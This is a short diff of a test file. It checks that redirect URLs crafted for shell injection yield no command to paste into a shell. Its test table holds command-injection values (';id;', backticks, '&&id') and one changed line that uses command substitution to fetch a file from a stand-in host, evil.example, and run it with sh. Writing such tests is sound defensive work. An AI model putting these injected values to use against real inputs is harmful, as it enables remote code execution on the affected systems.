@@ -231,7 +231,7 @@ describe.each(DIALECTS)('answers that say what to do on %s', (dialect) => {
       ['https://a;id;.example.com/cb'],
       ['https://a`id`b.example.com/cb'],
       ['https://x&&id.example.com/cb'],
-      ["https://$({curl,-so,x,evil.example})$({sh,x}).y/cb"],
+      ['https://$({curl,-so,x,evil.example})$({sh,x}).y/cb'],
     ] as const)(
       'an origin no DNS name can have (%s): no command to paste into a shell, on a development tenant either',
       async ([redirect]) => {
